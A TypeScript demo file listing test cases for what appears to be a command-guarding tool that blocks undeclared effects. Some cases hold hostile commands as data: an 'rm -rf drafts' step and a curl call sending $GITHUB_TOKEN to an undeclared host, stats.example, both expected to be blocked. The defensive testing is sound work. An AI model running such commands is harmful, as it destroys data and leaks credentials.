/** One command of the demo, what is declared of it, and how it must end. */
export interface Story {
  readonly title: string;
  readonly args: readonly string[];
  readonly exit: number;
  /** Texts that the evidence block must hold. */
  readonly says: readonly string[];
}

const POSTS = ['--expect', 'blog/*.md'];

export const STORIES: readonly Story[] = [
  {
    title: 'a script that does what it was declared to do',
    args: [...POSTS, '--', 'python3 scripts/rewrite_frontmatter.py blog/*.md'],
    exit: 0,
    says: ['files changed:  3', 'blocked:        no'],
  },
  {
    title: 'the same script, with a bug that also rewrites blog/index.html',
    args: [...POSTS, '--', 'python3 scripts/rewrite_frontmatter_v2.py blog/*.md'],
    exit: 10,
    says: ['blog/index.html', 'blocked:        yes'],
  },
  {
    title: 'a chain whose middle step deletes what it should not',
    args: [...POSTS, '--', 'sed -i s/notes/note/ blog/*.md && rm -rf drafts && ls blog'],
    exit: 10,
    says: ['step 2 (rm -rf drafts)', 'blocked:        yes'],
  },
  {
    title: 'a command declared read-only that writes',
    args: ['--read-only', '--', 'wc -w blog/*.md | tee stats.txt'],
    exit: 10,
    says: ['stats.txt', 'blocked:        yes'],
  },
  {
    title: 'a release note fetched from a host that was declared, and a token sent to one that was not',
    args: [
      ...['--read-only', '--network', 'api.github.com:443', '--credential', 'GITHUB_TOKEN', '--'],
      'curl -s https://api.github.com/zen; curl -s "https://stats.example/?t=$GITHUB_TOKEN"',
    ],
    exit: 10,
    says: ['not declared: stats.example', 'GITHUB_TOKEN in argv, step 2', 'blocked:        yes'],
  },
];
